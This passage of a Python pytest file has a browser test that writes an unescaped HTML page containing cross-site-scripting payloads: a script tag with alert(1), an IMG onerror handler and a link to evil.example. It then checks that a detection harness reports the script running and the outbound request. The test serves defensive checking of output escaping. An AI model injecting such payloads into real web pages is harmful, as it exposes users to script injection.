    assert len(seen) == 2 + len(nothing)
    assert seen[1]["choices"] == len(few)
    assert seen[0]["marks"] > len(LABELS)
    assert "".join(heading.split()) == "".join(title.replace("\0", "").split())


@pytest.mark.browser
def test_this_page_would_notice_what_runs(browser, tmp_path):
    """The same looks on a page that lacks the house's policy and its escapes."""
    path = tmp_path / "report.html"
    harmful = f"{HANDLERS[0]}{ADDRESSES[14]}{MARKUP[3]}<script>{_DO};alert(1)</script>"
    path.write_text(f"<body>{harmful}</body>", encoding="utf-8")
    opened = Opened(browser, path)
    opened.page.wait_for_timeout(200)
    harm = opened.harm()
    opened.context.close()
    assert "a script ran" in harm
    assert "1" in harm  # the dialog
    assert f"https:{_AT}.png" in harm  # what was asked for
    assert "A href=https://evil.example" in harm
    assert f"IMG onerror={_DO}" in harm
